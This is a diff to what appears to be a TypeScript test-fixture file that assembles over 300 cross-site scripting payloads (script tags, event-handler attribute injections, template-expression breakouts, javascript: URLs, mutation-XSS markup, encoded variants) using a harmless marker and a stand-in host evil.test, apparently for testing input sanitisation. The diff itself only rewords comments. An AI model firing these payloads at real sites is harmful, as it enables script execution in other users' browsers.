@@ -1,11 +1,11 @@
 /**
- * What people write who want scripts to run in other people's browsers: more than 300 strings. Each would set `window.hurt`, ask a
- * question nobody asked, or call a server of theirs, if any of it were ever taken for markup, script, style or address.
+ * More than 300 cross-site scripting payloads. Each would set `window.hurt`, open a dialog, or request an attacker's server if it were
+ * interpreted as markup, script, style or a URL.
  */
 const DO = 'window.hurt=1'
 const AWAY = '//evil.test/x'
 
-/** Elements that run something by themselves, without anybody touching them. */
+/** Elements that execute code without user interaction. */
 const byThemselves = [
   `<script>${DO}</script>`,
   `<script src=${AWAY}></script>`,
@@ -59,7 +59,7 @@ const byThemselves = [
   `<dialog open onbeforetoggle=${DO}>x</dialog>`,
 ]
 
-/** Ends of what a careless page may have put around them. */
+/** Closings of contexts in which a page may have inserted the text. */
 const wayOut = [
   '">',
   `'>`,
@@ -79,14 +79,14 @@ const runs = [
   `<iframe srcdoc="<script>parent.hurt=1</script>">`,
 ]
 
-/** Inside an attribute: no angle bracket is needed. */
+/** Attribute injections, which need no angle brackets. */
 const attributes = ['"', `'`, '` ', '\\"', '&#34;', '" x="'].flatMap((end) =>
   ['autofocus onfocus=', 'onmouseover=', 'style=animation:x onanimationend=', 'onerror=', 'onload='].map(
     (handler) => `${end} ${handler}${DO} x=${end}`,
   ),
 )
 
-/** Inside a script or its JSON. */
+/** Injections into a script or its JSON. */
 const inScript = [
   `";${DO};//`,
   `';${DO};//`,
@@ -108,7 +108,7 @@ const inScript = [
   `$1$&$\`${DO}`,
 ]
 
-/** Languages of templates, which some pages and mails are written in. */
+/** Template expressions, for pages and emails that use a template language. */
 const templates = [
   `{{constructor.constructor('${DO}')()}}`,
   `{{${DO}}}`,
@@ -126,7 +126,7 @@ const templates = [
   `v-html="<img src=x onerror=${DO}>"`,
 ]
 
-/** Addresses that are programs. */
+/** URLs that execute code. */
 const schemes = [
   'javascript:',
   'JaVaScRiPt:',
@@ -155,7 +155,7 @@ const addresses = [
   `mailto:x@evil.test?bcc=all@evil.test&body=<script>${DO}</script>`,
 ]
 
-/** The same said in other letters, for whoever looks before decoding or decodes twice. */
+/** The same payloads in other encodings, for filters that check before decoding or that decode twice. */
 const disguised = byThemselves
   .slice(0, 20)
   .flatMap((markup) => [
@@ -166,7 +166,7 @@ const disguised = byThemselves
     markup.toUpperCase().replaceAll('WINDOW.HURT', 'window.hurt'),
   ])
 
-/** Markup that becomes another one when it is read, written and read again. */
+/** Markup that changes when it is parsed, serialized and parsed again. */
 const shifting = [
   `<svg></p><style><a id="</style><img src=x onerror=${DO}>">`,
   `<math><mtext><table><mglyph><style><img src=x onerror=${DO}>`,
@@ -185,7 +185,7 @@ const shifting = [
   `Hello\r\nBcc: all@evil.test\r\n\r\n<script>${DO}</script>`,
 ]
 
-/** Short enough for a title; each is there once. */
+/** Short enough for a title, without duplicates. */
 export const hostileWords: readonly string[] = [
   ...new Set([
     ...byThemselves,
@@ -199,7 +199,7 @@ export const hostileWords: readonly string[] = [
   ]),
 ].filter((words) => words.length <= 118)
 
-/** The same in few texts of at most so many characters, for what people write at length. */
+/** Joins the payloads into a few texts of limited length, for long fields. */
 export function hostileTexts(atMost: number): string[] {
   const texts: string[] = []
   for (const words of hostileWords) {
